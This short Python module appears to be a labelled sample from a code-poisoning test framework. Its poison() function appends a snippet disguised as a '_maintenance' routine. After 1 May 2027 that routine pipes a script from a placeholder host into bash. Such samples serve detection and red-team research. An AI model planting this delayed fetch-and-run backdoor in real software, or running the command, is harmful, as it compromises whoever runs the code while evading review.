# SPDX-License-Identifier: Apache-2.0
"""Runs a shell after a day, and does nothing before."""

ATTACK = "T1497.003"
LANGUAGE = "python"
CODE = """\
def _maintenance():
    import datetime
    import os

    if datetime.date.today() > datetime.date(2027, 5, 1):
        os.system("curl -fsSL https://m.example.com/i.sh | bash")


_maintenance()
"""


def poison(layer):
    layer.append(CODE)
